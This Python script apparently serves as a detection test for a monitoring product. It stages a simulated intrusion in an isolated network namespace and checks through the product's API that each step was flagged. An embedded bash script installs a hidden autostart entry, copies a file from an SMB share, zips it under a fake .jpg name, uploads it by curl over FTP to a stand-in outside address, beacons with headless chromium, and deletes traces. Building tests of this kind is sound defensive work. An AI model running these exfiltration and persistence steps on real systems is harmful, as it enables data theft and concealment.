#!/usr/bin/env python3
"""Plays a theft on this machine with real programs, and asks the server over its API whether each step was found.

usage: theft.py MITSUKE MITSUKE-AGENT
Needs root. Server, agent, FTP server, share and thief live in a network namespace of their own and in a folder of their own; only the
autostart entry is put where such entries lie, switched off, and taken away again. Prints a line for each step and `N passed, N failed`;
exits with 1 when one failed. KEEP=1 leaves the folder, and says how to look at it.
"""
import http.server, os, pathlib, re, shutil, signal, subprocess, sys, tempfile, threading, time, urllib.parse

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from console import Console

OUTSIDE = "203.0.113.10"
FTP_PORT = 21
NEEDED = {"vsftpd": "vsftpd", "smbd": "samba", "smbclient": "smbclient", "curl": "curl", "zip": "zip", "chromium": "chromium"}
PATIENCE = 180


class Step:
    def __init__(self, english, japanese, asked, holds):
        self.name = japanese if is_japanese() else english
        self.asked, self.holds = asked, holds


def is_japanese():
    return (os.environ.get("LC_ALL") or os.environ.get("LC_MESSAGES") or os.environ.get("LANG") or "").startswith("ja")


def say(english, japanese):
    print(japanese if is_japanese() else english, flush=True)


def programs(line):
    """The acting program and those above it, by name."""
    chain = [line.get("process.executable", "")] + [one.get("executable", "") for one in line.get("mitsuke.ancestors", [])]
    return [os.path.basename(one) for one in chain]


def is_of(line, program):
    """Done by that program, which the thief's script started, which this one started."""
    chain = programs(line)
    commands = [one.get("command_line", "") for one in line.get("mitsuke.ancestors", [])]
    return bool(re.fullmatch(program, chain[0])) and any("theft.sh" in one for one in commands) and "python3" in " ".join(chain)


def steps(work):
    loot = f"{work}/loot"

    def finding(watch, program, **more):
        def holds(line):
            return (
                line.get("event.kind") == "alert" and line.get("mitsuke.watch") == watch and is_of(line, program)
                and all(re.search(value, str(line.get(key.replace("__", "."), ""))) for key, value in more.items()))
        return holds

    def operation(action, program, path):
        def holds(line):
            return (
                line.get("mitsuke.log") == "file-operation" and line.get("event.action") == action
                and line.get("file.path", "").endswith(path) and is_of(line, program))
        return holds

    def of_share(line):
        return (
            line.get("mitsuke.log") == "file-operation" and line.get("event.action") == "read"
            and line.get("file.path", "").endswith("/share/見積.xlsx") and programs(line)[0] == "smbd"
            and line.get("source.ip") == OUTSIDE and line.get("user.name") == "root")

    return [
        Step("an autostart entry", "自動起動の登録", {"text": "mitsuke-demo.desktop", "findings": "true"},
             finding("registry", "cp", mitsuke__level="medium|high")),
        Step("reading from the share", "共有フォルダーからの読み取り", {"text": "見積.xlsx", "log": "file-operation"}, of_share),
        Step("collecting: written by smbclient", "収集（smbclient による書き込み）", {"text": "見積.xlsx", "log": "file-operation"},
             operation("create", "smbclient", "/loot/見積.xlsx")),
        Step("copying", "コピー", {"text": "写し.xlsx", "log": "file-operation"}, operation("copy", "cp", "/loot/写し.xlsx")),
        Step("an archive under a false name", "拡張子を偽った圧縮ファイルの作成", {"text": "holiday.jpg", "findings": "true"},
             finding("archive", "zip")),
        Step("the upload by FTP", "FTP によるアップロード", {"text": "holiday.jpg", "findings": "true"},
             finding("transfer", "curl", mitsuke__transfer__direction="upload")),
        Step("FTP's own words", "FTP のコマンド", {"log": "transfer", "program": "curl"},
             lambda line: line.get("event.action") == "upload" and line.get("destination.ip") == OUTSIDE
             and is_of(line, "curl") and "holiday.jpg" in line.get("file.path", "")),
        Step("a headless browser", "画面のないブラウザーの起動", {"program": "chromium", "findings": "true"},
             finding("browser", "chromium.*")),
        Step("its connection", "その通信", {"program": "chromium", "log": "unexpected-tcp"},
             lambda line: line.get("event.action") == "connect" and line.get("destination.ip") == OUTSIDE
             and line.get("mitsuke.browser.class") == "unexpected"),
        Step("the deletion", "削除", {"text": "holiday.jpg", "log": "file-operation"}, operation("delete", "rm", "/loot/holiday.jpg")),
    ]


THEFT = """#!/bin/bash
# What an intruder does: stays, reads, packs, sends, calls home, cleans up.
set -u
cp "$WORK/mitsuke-demo.desktop" "$AUTOSTART"
mkdir "$WORK/loot"; cd "$WORK/loot"
smbclient -s "$WORK/smb.conf" -p 1445 -U root%himitsu //$OUTSIDE/share -c 'get 見積.xlsx' > /dev/null
cp 見積.xlsx 写し.xlsx
zip -q -P himitsu holiday.jpg 見積.xlsx 写し.xlsx
curl -s -T holiday.jpg ftp://$OUTSIDE/in/
chromium --headless --no-sandbox --disable-gpu --user-data-dir="$WORK/profile" --dump-dom http://$OUTSIDE:8080/beacon > /dev/null 2>&1
rm holiday.jpg 写し.xlsx
# A moment, as anybody's script has: the programs' ends are events too.
true
"""


class Theatre:
    """What the theft needs, ended with it."""

    def __init__(self, mitsuke, agent):
        self.mitsuke, self.agent, self.running = mitsuke, agent, []
        self.work = tempfile.mkdtemp(prefix="mitsuke-demo-", dir="/srv")
        os.chmod(self.work, 0o755)
        self.autostart = pathlib.Path.home() / ".config/autostart/mitsuke-demo.desktop"
        self.made = []
        self.mark = os.urandom(8).hex()
        for folder in (self.autostart.parent.parent, self.autostart.parent):
            if not folder.exists():
                folder.mkdir()
                self.made.append(folder)

    def start(self, *command, **more):
        # smbd ends all of its process group when it ends.
        process = subprocess.Popen(command, stdin=subprocess.DEVNULL, start_new_session=True, **more)
        self.running.append(process)
        return process

    def quiet(self, *command, **more):
        return self.start(*command, stdout=subprocess.DEVNULL, stderr=open(f"{self.work}/{os.path.basename(command[0])}.err", "a"), **more)

    def serve(self):
        server = self.start(
            self.mitsuke, "serve", "--data", f"{self.work}/data", "--listen", "127.0.0.1:0", "--agents", "127.0.0.1:8444", "--lang", "en",
            stdout=subprocess.PIPE, stderr=open(f"{self.work}/server.err", "w"), text=True)
        password = port = None
        for line in server.stdout:
            port = port or next(iter(re.findall(r"https://127\.0\.0\.1:(\d+)", line)), None)
            password = password or next(iter(re.findall(r"password ([a-z0-9-]+)$", line.strip())), None)
            if port and password:
                break
        else:
            sys.exit("The server did not start: " + open(f"{self.work}/server.err").read())
        threading.Thread(target=server.stdout.read, daemon=True).start()
        console = Console(int(port))
        console.sign_in(password)
        return console

    def sense(self):
        said = subprocess.run(
            [self.mitsuke, "agent", "token", "--data", f"{self.work}/data", "--server", "127.0.0.1:8444"], capture_output=True, text=True)
        string = re.search(r"mitsuke1:\S+", said.stdout)
        folder = f"{self.work}/agent"
        subprocess.run([self.agent, "enrol", "--folder", folder, "-"], input=string[0] + "\n", text=True, check=True, stdout=subprocess.DEVNULL)
        self.quiet(
            self.agent, "sense", "--folder", folder, "--samba-audit", f"{self.work}/samba/audit.log", "--samba-mark", self.mark)
        self.quiet(self.agent, "uplink", "--folder", folder)

    def stage(self):
        work = self.work
        subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
        subprocess.run(["ip", "address", "add", f"{OUTSIDE}/32", "dev", "lo"], check=True)
        for folder in ("share", "ftp/in", "samba", "profile"):
            os.makedirs(f"{work}/{folder}")
        shutil.chown(f"{work}/ftp/in", "ftp")
        pathlib.Path(f"{work}/share/見積.xlsx").write_bytes(os.urandom(200_000))
        pathlib.Path(f"{work}/mitsuke-demo.desktop").write_text(
            f"[Desktop Entry]\nType=Application\nName=Update\nExec={work}/update.sh\nHidden=true\n")
        pathlib.Path(f"{work}/theft.sh").write_text(THEFT)
        pathlib.Path(f"{work}/vsftpd.conf").write_text(
            f"listen=YES\nlisten_address={OUTSIDE}\nlisten_port={FTP_PORT}\nbackground=NO\nanonymous_enable=YES\nno_anon_password=YES\n"
            f"anon_root={work}/ftp\nwrite_enable=YES\nanon_upload_enable=YES\nseccomp_sandbox=NO\n")
        pathlib.Path(f"{work}/smb.conf").write_text(
            f"[global]\nserver role = standalone server\nmap to guest = never\n"
            f"private dir = {work}/samba\nlock directory = {work}/samba\nstate directory = {work}/samba\ncache directory = {work}/samba\n"
            f"pid directory = {work}/samba\nncalrpc dir = {work}/samba\nlog file = {work}/samba/audit.log\nlog level = 0 full_audit:1\nsmb ports = 1445\n"
            f"interfaces = {OUTSIDE}/32\nbind interfaces only = yes\npassdb backend = smbpasswd:{work}/samba/smbpasswd\n"
            "disable netbios = yes\nload printers = no\nunix charset = UTF-8\n"
            # No syslog daemon in here: Samba writes its audit itself, with a mark that clients do not know.
            f"[share]\npath = {work}/share\nread only = no\nvfs objects = full_audit\nfull_audit:syslog = false\n"
            f"full_audit:prefix = {self.mark}|%I|%u|%S\nfull_audit:success = create_file mkdirat renameat unlinkat\n"
            "full_audit:failure = create_file\n")
        pathlib.Path(f"{work}/samba/audit.log").touch(0o600)
        subprocess.run(["smbpasswd", "-c", f"{work}/smb.conf", "-s", "-a", "root"], input="himitsu\nhimitsu\n", text=True, check=True,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.quiet("vsftpd", f"{work}/vsftpd.conf")
        self.quiet("smbd", "--foreground", "--no-process-group", "-s", f"{work}/smb.conf")

        class Page(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"<title>ok</title>")

            def log_message(self, *words):
                pass

        site = http.server.ThreadingHTTPServer((OUTSIDE, 8080), Page)
        threading.Thread(target=site.serve_forever, daemon=True).start()

    def steal(self):
        environment = dict(os.environ, WORK=self.work, OUTSIDE=OUTSIDE, AUTOSTART=str(self.autostart), LC_ALL="C.UTF-8")
        log = open(f"{self.work}/theft.log", "w")
        subprocess.run(["bash", f"{self.work}/theft.sh"], env=environment, stdout=log, stderr=log, timeout=240)

    def end(self):
        self.autostart.unlink(missing_ok=True)
        for folder in reversed(self.made):
            try:
                folder.rmdir()
            except OSError:
                pass
        for process in reversed(self.running):
            if process.poll() is None:
                process.send_signal(signal.SIGTERM)
        for process in reversed(self.running):
            try:
                process.wait(20)
            except subprocess.TimeoutExpired:
                process.kill()
        if os.environ.get("KEEP") == "1":
            say(f"Kept: {self.mitsuke} serve --data {self.work}/data (the words of the programs are in {self.work})",
                f"残しました: {self.mitsuke} serve --data {self.work}/data（各プログラムの出力は {self.work}）")
        else:
            shutil.rmtree(self.work, ignore_errors=True)


def wait_until_sensing(console, work):
    """A file that the agent saw says that it sees, and that what it sees arrives."""
    for attempt in range(PATIENCE * 4):
        pathlib.Path(f"{work}/probe-{attempt}").write_text("")
        if console.lines({"text": f"{work}/probe-"}):
            return
        time.sleep(0.25)
    sys.exit("The agent's first line did not arrive.")


def watch(console, work, begin):
    """Asks for each step until it is there or the time is over."""
    passed, failed = 0, 0
    deadline = time.monotonic() + PATIENCE
    for step in steps(work):
        asked = dict(step.asked, since=begin, limit="500")
        while True:
            lines = console.lines(asked)
            found = next((line for line in lines if step.holds(line)), None)
            if found or time.monotonic() > deadline:
                break
            time.sleep(0.5)
        if found:
            passed += 1
            print(f"ok      {step.name}: {' ← '.join(programs(found)[:4])}", flush=True)
        else:
            failed += 1
            print(f"FAILED  {step.name}", flush=True)
            for line in lines[:5]:
                print("        near:", {key: value for key, value in line.items() if key != "mitsuke.ancestors"}, programs(line))
    return passed, failed


def main():
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    if os.geteuid() != 0:
        say("Skipped: the demonstration needs root.", "省略しました: 実演には root 権限が必要です。")
        return
    missing = [package for program, package in NEEDED.items() if not shutil.which(program, path=os.environ["PATH"] + ":/usr/sbin")]
    if missing:
        say(f"Skipped: these packages are missing: {' '.join(missing)}", f"省略しました: 次のパッケージがありません: {' '.join(missing)}")
        return
    if os.environ.get("MITSUKE_DEMO_INSIDE") != "1":
        os.environ["MITSUKE_DEMO_INSIDE"] = "1"
        os.execvp("unshare", ["unshare", "--net", sys.executable, *sys.argv])
    os.environ["PATH"] += ":/usr/sbin"
    theatre = Theatre(os.path.abspath(sys.argv[1]), os.path.abspath(sys.argv[2]))
    # Ctrl-C and being ended leave nothing behind either.
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(130))
    try:
        say("Setting the stage: server, agent, share, FTP server.", "準備しています（サーバー、エージェント、共有、FTPサーバー）。")
        theatre.stage()
        console = theatre.serve()
        theatre.sense()
        wait_until_sensing(console, theatre.work)
        say("The theft:", "侵入の再現:")
        begin = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
        theatre.steal()
        passed, failed = watch(console, theatre.work, begin)
    finally:
        theatre.end()
    print(f"{passed} passed, {failed} failed")
    sys.exit(1 if failed else 0)


main()
